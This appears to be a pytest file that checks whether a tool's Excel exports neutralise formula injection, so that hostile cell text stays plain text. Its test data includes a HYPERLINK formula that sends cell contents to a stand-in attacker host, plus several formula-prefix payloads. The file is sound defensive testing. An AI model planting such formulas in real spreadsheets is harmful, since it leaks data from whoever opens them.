"""No workbook digimeter writes holds a formula built from data: text from crawled pages,
input lists, reviewers or returned sheets is a text cell (OWASP formula injection), while
the CSV and Parquet exports keep the exact values. Every sheet is opened with openpyxl and
every cell's type is checked."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from scoring_fixtures import VERDICTS, add_overrides, organisations, products, verdict_rows

from digimeter.core.model import Organisation, Verdict
from digimeter.core.runstore import RunStore
from review.sheets import write_sheets
from scoring.run import score_run
from scoring.sheetnames import sheet_title
from scoring.tables import TABLES_BY_NAME

HYPERLINK = '=HYPERLINK("http://evil.test/?"&A1,"klik")'
HOSTILE = (HYPERLINK, "=1+2", "+SUM(1;2)", "-2+3", "@SUM(A1)", "\tTAB=1+1", "\rCR=1+1")


def hostile_run(folder: Path) -> Path:
    """The scoring fixture run with formula-like text in every kind of text input."""
    orgs = [
        Organisation(
            o.code, HYPERLINK if o.code == "GM0014" else o.name, o.org_type, o.website, o.extra
        )
        for o in organisations()
    ]
    rows = verdict_rows(VERDICTS, run_id=folder.name)
    for i, row in enumerate(rows):
        if row["org_code"] == "GM0014":
            row["org_name"] = HYPERLINK
        row["product_url"] = "=1+2"
        evidence = [{"url": "@SUM(A1)", "rule": "+rule", "snippet": HOSTILE[i % 7]}]
        row["evidence"] = json.dumps(evidence)
        row["rules_version"] = "-2+3"
    store = RunStore(folder, create=True)
    store.save_inputs(orgs, products())
    store.save_verdicts([Verdict.from_row(r) for r in rows])
    store.set_meta(run_id=folder.name)
    store.advance_to("classified")  # a complete run (issue 9: incomplete ones are refused)
    store.close()
    add_overrides(folder, [("GM0014", "p_b2", "ok", 67, 67, "@reviewer", "2026-08-01", "=2*3")])
    return folder


def formula_cells(path: Path) -> tuple[list[str], dict[str, int]]:
    """Cells holding a formula, and per hostile value how many text cells hold it."""
    formulas: list[str] = []
    found = dict.fromkeys(HOSTILE, 0)
    workbook = load_workbook(path)  # not read-only: cell types and styles as stored
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{ws.title}!{cell.coordinate}: {cell.value!r}")
                for value in HOSTILE:
                    if isinstance(cell.value, str) and value in cell.value:
                        assert cell.data_type == "s", (ws.title, cell.coordinate)
                        if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                            assert cell.quotePrefix, (ws.title, cell.coordinate)
                        found[value] += 1
    return formulas, found


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_the_score_workbook_holds_no_formula(tmp_path: Path, lang: str) -> None:
    run = hostile_run(tmp_path / "run")
    result = score_run(run, lang=lang)
    formulas, found = formula_cells(result.out_dir / f"digimeter-{result.run_id}.xlsx")
    assert formulas == []
    assert found["=1+2"] > 0 and found["-2+3"] > 0 and found["@SUM(A1)"] > 0
    workbook = load_workbook(result.out_dir / f"digimeter-{result.run_id}.xlsx")
    names = {
        ws.title
        for ws in workbook.worksheets
        if any(c.value == HYPERLINK for r in ws.iter_rows() for c in r)
    }
    # The organisation name of the issue: a live link in four sheets before; text now (and
    # in the verdicts sheet).
    tables = ["scores_organisations", "top_bottom", "not_found_unreachable",
              "overrides_applied", "verdicts_scored"]  # fmt: skip
    sheets = {name: sheet_title(TABLES_BY_NAME[name], lang) for name in tables}
    assert set(sheets.values()) <= names
    applied = workbook[sheets["overrides_applied"]]
    values = [c.value for r in applied.iter_rows() for c in r]
    assert "=2*3" in values and "@reviewer" in values
    # The CSV and Parquet files keep the exact text.
    with open(run / "scores_organisations.csv", newline="", encoding="utf-8") as fh:
        assert HYPERLINK in [r["org_name"] for r in csv.DictReader(fh)]
    parquet = pd.read_parquet(run / "not_found_unreachable.parquet")
    assert (parquet["org_name"] == HYPERLINK).any()


def test_the_organisations_workbooks_hold_no_formula(tmp_path: Path) -> None:
    run = hostile_run(tmp_path / "run")
    store = RunStore(run)
    try:
        result = write_sheets(store, tmp_path / "sheets")
    finally:
        store.close()
    totals = dict.fromkeys(HOSTILE, 0)
    for path in result.files:
        formulas, found = formula_cells(path)
        assert formulas == [], path.name
        for value, n in found.items():
            totals[value] += n
    assert totals[HYPERLINK] >= 1  # the organisation's name on its about sheet
    assert totals["=1+2"] > 0  # product URLs as evidence URLs
    assert sum(totals[v] for v in HOSTILE[2:]) > 0  # snippets
